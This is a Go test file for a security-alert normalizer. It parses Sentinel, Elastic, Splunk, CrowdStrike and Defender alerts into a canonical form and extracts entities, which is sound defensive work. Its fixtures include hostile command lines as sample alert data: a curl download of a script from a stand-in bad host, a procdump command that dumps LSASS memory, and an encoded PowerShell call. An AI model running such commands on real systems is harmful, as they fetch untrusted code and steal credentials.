package entityparser

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var epoch = time.Date(2024, 2, 14, 13, 52, 45, 0, time.UTC)

func normalized(t *testing.T, source, raw string) CanonicalAlert {
	t.Helper()
	a, keep, err := Normalize(source, []byte(raw), epoch)
	require.NoError(t, err)
	require.True(t, keep)
	require.NoError(t, a.Validate())
	return a
}

func entitiesOf(t *testing.T, a CanonicalAlert) Entities {
	t.Helper()
	e, mode := ParseEntities(a.EntitiesRaw, a.RawPayload, ExtractOptions{})
	require.Equal(t, ModeStructured, mode, a.EntitiesRaw)
	require.Empty(t, e.ParseErrors, a.EntitiesRaw)
	return e
}

// Checklist 71.
func TestNormalizeSentinelRow(t *testing.T) {
	for _, name := range []string{" HEARTBEAT ", "Test Alert", "health check"} {
		_, keep, err := NormalizeSentinel([]byte(`{"AlertName":"` + name + `","TimeGenerated":"2025-01-15T10:00:00Z"}`))
		require.NoError(t, err)
		assert.False(t, keep, name)
	}
	a := normalized(t, SourceSentinel, `{"SystemAlertId":"s1","AlertName":"Brute force","TimeGenerated":"2025-01-15T10:00:00Z","Tactics":"InitialAccess, Execution","Entities":"[]"}`)
	assert.Equal(t, SeverityMedium, a.Severity, "absent severity is medium")
	assert.Equal(t, []string{"InitialAccess", "Execution"}, a.Tactics)
	assert.Equal(t, "default", a.TenantID)
	assert.Equal(t, "sentinel", a.DataSource)
	assert.Equal(t, "Brute force", a.RuleFamily)
	a = normalized(t, SourceSentinel, `{"AlertName":"x","TimeGenerated":"2025-01-15T10:00:00Z","Tactics":["A"],"Severity":5}`)
	assert.Equal(t, "[]", a.EntitiesRaw, "absent Entities is []")
	assert.Equal(t, SeverityMedium, a.Severity, "a non-string Severity counts as absent")
	assert.Equal(t, []string{"A"}, a.Tactics)
	_, _, err := NormalizeSentinel([]byte(`{"AlertName":"x","TimeGenerated":"2025-01-15T10:00:00Z","Severity":"Unknown"}`))
	assert.ErrorIs(t, err, ErrInvalidAlert)
	_, _, err = NormalizeSentinel([]byte(`{"AlertName":"x"}`))
	assert.ErrorIs(t, err, ErrInvalidAlert)
	_, _, err = NormalizeSentinel([]byte(`[1,2]`))
	assert.ErrorIs(t, err, ErrInvalidAlert)
}

// Sentinel's REST API shapes (properties.*, tactics as an array).
func TestNormalizeSentinelAPI(t *testing.T) {
	a := normalized(t, SourceSentinel, `{"id":"/subscriptions/x/providers/Microsoft.SecurityInsights/Entities/e1","name":"e1","kind":"SecurityAlert",
	 "properties":{"systemAlertId":"sa-42","alertDisplayName":"Suspicious PowerShell","alertType":"PS_Encoded","severity":"High",
	 "tactics":["Execution","DefenseEvasion"],"timeGenerated":"2024-05-01T08:00:00.1234567Z","productName":"Microsoft Defender for Cloud",
	 "description":"Encoded command from 198.51.100.9","entities":[{"$id":"1","Type":"host","HostName":"web01"}]}}`)
	assert.Equal(t, "sa-42", a.AlertID)
	assert.Equal(t, "Suspicious PowerShell", a.Title)
	assert.Equal(t, SeverityHigh, a.Severity)
	assert.Equal(t, []string{"Execution", "DefenseEvasion"}, a.Tactics)
	assert.Equal(t, "PS_Encoded", a.RuleFamily)
	assert.Equal(t, []string{"web01"}, primaries(entitiesOf(t, a).Hosts))

	a = normalized(t, SourceSentinel, `{"name":"inc-7","type":"Microsoft.SecurityInsights/incidents","properties":{"title":"Multi-stage attack",
	 "severity":"Medium","createdTimeUtc":"2024-05-01T09:00:00Z","incidentNumber":7,"additionalData":{"tactics":["InitialAccess","Persistence"]},"providerName":"Azure Sentinel"}}`)
	assert.Equal(t, "inc-7", a.AlertID)
	assert.Equal(t, "Multi-stage attack", a.Title)
	assert.Equal(t, []string{"InitialAccess", "Persistence"}, a.Tactics)
}

// elasticSignal builds the older signal.* shape of spec checklist 72.
func elasticSignal(ruleName, tactic, tech, sub string, extra string) string {
	return `{"@timestamp":"2024-03-01T12:00:00.000Z","signal":{"id":"sig-` + tech + `","rule":{"id":"rule-1","name":"` + ruleName + `",
	 "description":"detects things","severity":"HIGH","threat":[{"tactic":{"name":"` + tactic + `"},"technique":[{"id":"` + tech + `","subtechnique":[{"id":"` + sub + `"}]}]}]}},
	 "agent":{"type":"endpoint"},` + extra + `}`
}

// Checklist 72 (older signal shape) and the 8.x flat shape.
func TestNormalizeElastic(t *testing.T) {
	fixtures := []string{
		elasticSignal("PowerShell Execution", "Execution", "T1059", "T1059.001",
			`"host":{"name":"ws-01","os":{"family":"windows"}},"user":{"name":"bob","domain":"corp.example.com"},"process":{"pid":4242,"name":"powershell.exe","args":["powershell.exe","-enc","AAAA"]}`),
		elasticSignal("Unusual Network Activity", "Command and Control", "T1071", "T1071.001",
			`"source":{"ip":"10.1.2.3"},"destination":{"ip":"203.0.113.80"}`),
		elasticSignal("Threat Intel Indicator Match", "Command and Control", "T1071", "T1071.001",
			`"signal.original_event":{"source_ip":"10.9.9.9","dest_ip":"198.51.100.1","user":"svc"}`),
	}
	for i, f := range fixtures {
		a := normalized(t, SourceElastic, f)
		assert.Equal(t, SeverityHigh, a.Severity)
		assert.Contains(t, a.Techniques, []string{"T1059.001", "T1071.001", "T1071.001"}[i])
		e := entitiesOf(t, a)
		assert.GreaterOrEqual(t, e.Count(), 1)
		assert.NotEqual(t, "rule-1", a.AlertID, "an alert is identified by its own id, not its rule's")
	}
	a := normalized(t, SourceElastic, fixtures[0])
	assert.Equal(t, "sig-T1059", a.AlertID)
	assert.Equal(t, []string{"Execution"}, a.Tactics)
	e := entitiesOf(t, a)
	assert.Equal(t, []string{"bob@corp.example.com"}, primaries(e.Accounts))
	assert.Equal(t, "powershell.exe -enc AAAA", e.Processes[0].Properties["command_line"], "args joined with spaces")

	flat := `{"@timestamp":"2024-06-09T13:56:03.205Z","kibana.alert.uuid":"a-111","kibana.alert.rule.uuid":"r-9","kibana.alert.rule.name":"Suspicious Curl",
	 "kibana.alert.severity":"critical","kibana.alert.reason":"process curl fetched https://dl.bad-cdn.example/x.sh on host lin-7","kibana.space_ids":["soc-a"],
	 "kibana.alert.rule.parameters":{"threat":[{"framework":"MITRE ATT&CK","tactic":{"name":"Command and Control"},"technique":[{"id":"T1105"}]}]},
	 "host":{"name":"lin-7","os":{"family":"debian"},"ip":["127.0.0.1","10.0.5.7"]},"user":{"name":"root"},
	 "process":{"pid":77,"name":"curl","executable":"/usr/bin/curl","command_line":"curl -o /tmp/x.sh https://dl.bad-cdn.example/x.sh",
	   "hash":{"sha256":"` + strings.Repeat("e", 64) + `"}},"agent":{"type":"endpoint"}}`
	a = normalized(t, SourceElastic, flat)
	assert.Equal(t, "a-111", a.AlertID)
	assert.Equal(t, "soc-a", a.TenantID)
	assert.Equal(t, SeverityCritical, a.Severity)
	assert.Equal(t, []string{"Command and Control"}, a.Tactics)
	assert.Equal(t, []string{"T1105"}, a.Techniques)
	assert.Equal(t, "Suspicious Curl", a.RuleFamily)
	assert.Equal(t, "elastic", a.DataSource)
	e = entitiesOf(t, a)
	assert.Equal(t, []string{"10.0.5.7"}, primaries(e.IPs), "loopback host addresses are left out")
	assert.Equal(t, []string{"curl"}, primaries(e.Processes))
	assert.Equal(t, "/usr/bin/curl", e.Files[0].Properties["full_path"])
	assert.Equal(t, []string{strings.Repeat("e", 64)}, primaries(e.FileHashes))

	// Two alerts of one rule do not collide.
	b := normalized(t, SourceElastic, strings.Replace(flat, `"a-111"`, `"a-222"`, 1))
	assert.NotEqual(t, a.AlertID, b.AlertID)

	_, keep, err := NormalizeElastic([]byte(`{"@timestamp":"2024-01-01T00:00:00Z","kibana.alert.rule.name":"Endpoint Heartbeat"}`))
	require.NoError(t, err)
	assert.False(t, keep)
	a = normalized(t, SourceElastic, `{"@timestamp":"2024-01-01T00:00:00Z","kibana.alert.rule.name":"x","kibana.alert.severity":"urgent","tenant_id":"t9"}`)
	assert.Equal(t, SeverityMedium, a.Severity)
	assert.Equal(t, "elastic", a.Product)
	assert.Equal(t, "t9", a.TenantID)
}

// Checklist 73.
func TestNormalizeSplunk(t *testing.T) {
	a := normalized(t, SourceSplunk, `{"_time":"1707918765.0","search_name":"Brute Force","urgency":"info","event_id":"e1","src":"10.1.1.1","dest":"FILESRV-02","user":"alice"}`)
	assert.Equal(t, "2024-02-14T13:52:45+00:00", a.Timestamp)
	assert.Equal(t, SeverityInformational, a.Severity)
	e := entitiesOf(t, a)
	assert.Equal(t, []string{"10.1.1.1"}, primaries(e.IPs))
	assert.Equal(t, []string{"FILESRV-02"}, primaries(e.Hosts), "a host name in dest is a host, not an invalid ip")
	a = normalized(t, SourceSplunk, `{"_time":1707918765.25,"search_name":"x","annotations":{"mitre_attack":{"mitre_tactic":["execution"],"mitre_technique_id":"T1059, T1059.001"}}}`)
	assert.Equal(t, "2024-02-14T13:52:45.250000+00:00", a.Timestamp)
	assert.Equal(t, []string{"T1059", "T1059.001"}, a.Techniques)
	assert.Equal(t, []string{"execution"}, a.Tactics)
	a = normalized(t, SourceSplunk, `{"search_name":"x"}`)
	assert.Equal(t, "2024-02-14T13:52:45+00:00", a.Timestamp, "no _time: now")
	assert.Equal(t, "splunk_es", a.Product)
	_, keep, err := NormalizeSplunk([]byte(`{"search_name":"Health Check - Forwarders"}`), epoch)
	require.NoError(t, err)
	assert.False(t, keep)
	_, _, err = NormalizeSplunk([]byte(`{"search_name":"x","_time":"yesterday"}`), epoch)
	assert.ErrorIs(t, err, ErrInvalidAlert, "a non-numeric _time is kept verbatim and fails validation")
}

func TestNormalizeCrowdStrike(t *testing.T) {
	a := normalized(t, SourceCrowdStrike, `{"composite_id":"cid1:ind:dev1:1-2-3","id":"ind:dev1:1-2-3","cid":"cid1","name":"CredentialDumpingLsass",
	 "display_name":"Credential dumping via LSASS","description":"procdump accessed lsass","severity":75,"tactic":"Credential Access","tactic_id":"TA0006",
	 "technique":"OS Credential Dumping","technique_id":"T1003","created_timestamp":"2024-08-20T09:11:27.311763183Z","product":"epp",
	 "device":{"hostname":"WS-77","local_ip":"10.2.3.4","external_ip":"198.51.100.77","platform_name":"Windows"},"user_name":"bob","user_id":"S-1-5-21-1",
	 "cmdline":"procdump.exe -ma lsass.exe C:\\temp\\l.dmp","filename":"procdump.exe","filepath":"C:\\Tools\\procdump.exe","md5":"`+strings.Repeat("1", 32)+`",
	 "sha1":"0000000000000000000000000000000000000000","parent_details":{"cmdline":"cmd.exe","filename":"cmd.exe"},
	 "network_accesses":[{"remote_address":"203.0.113.9","remote_port":"443"}]}`)
	assert.Equal(t, "cid1:ind:dev1:1-2-3", a.AlertID)
	assert.Equal(t, SeverityHigh, a.Severity)
	assert.Equal(t, []string{"Credential Access"}, a.Tactics)
	assert.Equal(t, []string{"T1003"}, a.Techniques)
	assert.Equal(t, "cid1", a.TenantID)
	assert.Equal(t, "CredentialDumpingLsass", a.RuleFamily)
	assert.Equal(t, "Credential dumping via LSASS", a.Title)
	assert.Equal(t, "crowdstrike", a.DataSource)
	e := entitiesOf(t, a)
	assert.Equal(t, []string{"WS-77"}, primaries(e.Hosts))
	assert.Equal(t, []string{"10.2.3.4", "198.51.100.77", "203.0.113.9"}, primaries(e.IPs))
	assert.Equal(t, []string{"procdump.exe", "cmd.exe"}, primaries(e.Processes))
	assert.Equal(t, []string{strings.Repeat("1", 32)}, primaries(e.FileHashes), "the all-zero sha1 placeholder is dropped")
	for sev, want := range map[string]Severity{"10": SeverityInformational, "30": SeverityLow, "50": SeverityMedium, "65": SeverityHigh, "90": SeverityCritical} {
		a := normalized(t, SourceCrowdStrike, `{"id":"x","name":"n","timestamp":"2024-01-01T00:00:00Z","severity":`+sev+`}`)
		assert.Equal(t, want, a.Severity, sev)
	}
	a = normalized(t, SourceCrowdStrike, `{"id":"x","name":"n","timestamp":"2024-01-01T00:00:00Z","severity":30,"severity_name":"Critical","technique_id":"CST0007"}`)
	assert.Equal(t, SeverityCritical, a.Severity)
	assert.Empty(t, a.Techniques, "CrowdStrike's own technique ids are not ATT&CK ids")
}

func TestNormalizeDefender(t *testing.T) {
	a := normalized(t, SourceDefender, `{"id":"da1","title":"Suspicious process","severity":"High","category":"Execution","alertCreationTime":"2024-01-01T00:00:00.123Z",
	 "computerDnsName":"ws-9.corp.example.com","machineId":"m1","mitreTechniques":["T1059.001","bogus"],"alertUser":{"accountName":"bob","domainName":"CORP"},
	 "alertFiles":[{"fileName":"a.ps1","filePath":"C:\\Users\\bob","sha256":"`+strings.Repeat("f", 64)+`"}],"alertIps":[{"ipAddress":"198.51.100.3"}],"alertDomains":[{"host":"bad.example"}]}`)
	assert.Equal(t, "da1", a.AlertID)
	assert.Equal(t, SeverityHigh, a.Severity)
	assert.Equal(t, []string{"Execution"}, a.Tactics)
	assert.Equal(t, []string{"T1059.001"}, a.Techniques)
	assert.Equal(t, "Suspicious process", a.RuleFamily)
	e := entitiesOf(t, a)
	assert.Equal(t, []string{"ws-9.corp.example.com"}, primaries(e.Hosts))
	assert.Equal(t, "m1", e.Hosts[0].Properties["edr_device_id"])
	assert.Equal(t, []string{"bob@CORP"}, primaries(e.Accounts))
	assert.Equal(t, []string{"a.ps1"}, primaries(e.Files))
	assert.Equal(t, `C:\Users\bob\a.ps1`, e.Files[0].Properties["full_path"])
	assert.Equal(t, []string{"198.51.100.3"}, primaries(e.IPs))
	assert.Equal(t, []string{"bad.example"}, primaries(e.DNSRecords))
	a = normalized(t, SourceDefender, `{"id":"d2","title":"t","severity":"UnSpecified","category":"null","alertCreationTime":"2024-01-01T00:00:00Z"}`)
	assert.Equal(t, SeverityMedium, a.Severity)
	assert.Empty(t, a.Tactics)
}

func TestNormalizeUnknownSource(t *testing.T) {
	_, _, err := Normalize("qradar", []byte(`{}`), epoch)
	assert.ErrorIs(t, err, ErrUnknownSource)
	assert.Contains(t, err.Error(), "crowdstrike")
}

func TestDecodeRecords(t *testing.T) {
	recs, err := DecodeRecords([]byte(`{"a":1}`))
	require.NoError(t, err)
	assert.Len(t, recs, 1)
	recs, _ = DecodeRecords([]byte(`[{"a":1},{"b":2}]`))
	assert.Len(t, recs, 2)
	recs, _ = DecodeRecords([]byte("{\"a\":1}\n\nnot json\n{\"b\":2}\n"))
	assert.Len(t, recs, 3)
	recs, _ = DecodeRecords([]byte(`{"@odata.context":"x","value":[{"id":"1"},{"id":"2"}]}`))
	assert.Len(t, recs, 2)
	recs, _ = DecodeRecords(nil)
	assert.Empty(t, recs)
}

func TestParseAlertsReportsBadRecordsAndKeepsGoodOnes(t *testing.T) {
	data := `{"search_name":"ok","_time":"1707918765","src":"10.0.0.1"}
{"search_name":"Health check"}
not json
{"search_name":"also ok","_time":"1707918765","description":"beacon to hxxp://evil[.]example[.]com/a"}`
	alerts, errs := ParseAlerts("splunk", []byte(data), epoch, ExtractOptions{})
	require.Len(t, alerts, 2)
	require.Len(t, errs, 1)
	assert.Equal(t, 2, errs[0].Index)
	assert.ErrorIs(t, errs[0], ErrInvalidAlert)
	assert.Equal(t, 0, alerts[0].Index)
	assert.Equal(t, 3, alerts[1].Index)
	assert.Equal(t, []string{"http://evil.example.com/a"}, primaries(alerts[1].Entities.URLs), "free text of non-Sentinel alerts goes through the extractor")
	b, err := json.Marshal(alerts[0])
	require.NoError(t, err)
	assert.Contains(t, string(b), `"parsed_entities":{"accounts":[]`)
	wire, err := alerts[0].NormalizedJSON()
	require.NoError(t, err)
	var m map[string]any
	require.NoError(t, json.Unmarshal(wire, &m))
	assert.Equal(t, "splunk", m["data_source"])
	assert.Contains(t, m, "parsed_entities")
	_, errs = ParseAlerts("nope", nil, epoch, ExtractOptions{})
	assert.ErrorIs(t, errs[0], ErrUnknownSource)
}

// corpusCase names one sample file and the adapter it belongs to.
type corpusCase struct {
	file, source string
	alerts       int
}

func checkCorpusFile(t *testing.T, dir string, c corpusCase) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, c.file))
	require.NoError(t, err)
	alerts, errs := ParseAlerts(c.source, data, epoch, ExtractOptions{})
	require.Empty(t, errs, c.file)
	require.Len(t, alerts, c.alerts, c.file)
	p := mustParser(t)
	for _, a := range alerts {
		assert.Equal(t, c.source, a.Alert.DataSource)
		assert.NotEmpty(t, a.Alert.Title, c.file)
		assert.NotEmpty(t, a.Alert.RuleFamily, c.file)
		assert.NoError(t, a.Alert.Validate())
		// The canonical alert is a valid alerts.raw message end to end.
		msg, err := json.Marshal(a.Alert)
		require.NoError(t, err)
		res, err := p.Process(t.Context(), msg)
		require.NoError(t, err, c.file)
		assert.True(t, json.Valid(res.Output))
	}
}

// Every MIT-licensed sample shipped in testdata goes through its adapter
// and the parser.
func TestCorpusAlerts(t *testing.T) {
	for _, c := range []corpusCase{
		{"sentinel_securityalert_msticpy_extract.json", SourceSentinel, 40},
		{"splunk_es_notable_event_xsoar.json", SourceSplunk, 1},
		{"splunk_es_notable_events_two_xsoar.json", SourceSplunk, 2},
		{"defender_endpoint_alerts_api_xsoar.json", SourceDefender, 3},
	} {
		checkCorpusFile(t, "testdata", c)
	}
	data, err := os.ReadFile("testdata/sentinel_securityalert_msticpy_extract.json")
	require.NoError(t, err)
	alerts, _ := ParseAlerts(SourceSentinel, data, epoch, ExtractOptions{})
	ips, errs := 0, 0
	for _, a := range alerts {
		ips += len(a.Entities.IPs)
		for _, pe := range a.Entities.ParseErrors {
			if !strings.HasPrefix(pe, "Invalid hash") {
				errs++
			}
		}
	}
	assert.Equal(t, 5, ips, "the five ip entities of the export")
	assert.Zero(t, errs, "registry-key, registry-value and host-logon-session entities are recognised")
	splunk, _ := os.ReadFile("testdata/splunk_es_notable_events_two_xsoar.json")
	alerts, _ = ParseAlerts(SourceSplunk, splunk, epoch, ExtractOptions{})
	assert.Equal(t, []string{"192.168.3.12"}, primaries(alerts[0].Entities.IPs))
	assert.Equal(t, []string{"ACME-workstation-012"}, primaries(alerts[0].Entities.Hosts))
}

// The Elastic License 2.0 samples (Elastic, CrowdStrike, Sentinel REST
// API) may not be copied into the repository; this runs them from the
// project's shared reference folder, which sits beside the checkout on the
// project's machines and CI (../../shared/corpus from here), or from
// WARDEN_SHARED_CORPUS. A checkout without that folder has no such files
// to test and skips, saying so.
func TestCorpusAlertsShared(t *testing.T) {
	dir := os.Getenv("WARDEN_SHARED_CORPUS")
	if dir == "" || dir == "1" {
		dir = "../../shared/corpus"
	}
	if _, err := os.Stat(dir); err != nil {
		t.Skipf("shared corpus not present at %s (it is not redistributable): %v", dir, err)
	}
	dir = filepath.Join(dir, "alerts")
	for _, c := range []corpusCase{
		{"elastic_security_alert_kibana_elastic_integrations.jsonl", SourceElastic, 1},
		{"crowdstrike_falcon_alerts_api_elastic_integrations.jsonl", SourceCrowdStrike, 3},
		{"sentinel_api_securityalert_elastic_integrations.jsonl", SourceSentinel, 1},
		{"sentinel_api_incident_elastic_integrations.jsonl", SourceSentinel, 1},
		{"sentinel_securityalert_msticpy_extract.json", SourceSentinel, 40},
		{"splunk_es_notable_event_xsoar.json", SourceSplunk, 1},
		{"splunk_es_notable_events_two_xsoar.json", SourceSplunk, 2},
		{"defender_endpoint_alerts_api_xsoar.json", SourceDefender, 3},
	} {
		checkCorpusFile(t, dir, c)
	}
	data, err := os.ReadFile(filepath.Join(dir, "elastic_security_alert_kibana_elastic_integrations.jsonl"))
	require.NoError(t, err)
	alerts, _ := ParseAlerts(SourceElastic, data, epoch, ExtractOptions{})
	a := alerts[0].Alert
	assert.Equal(t, "abcdef123", a.AlertID, "kibana.alert.uuid, not the rule id")
	assert.Equal(t, SeverityHigh, a.Severity)
	assert.Contains(t, a.Techniques, "T1059.004")
	assert.Equal(t, []string{"siem-linux-release-sec-bis"}, primaries(alerts[0].Entities.Hosts))
}
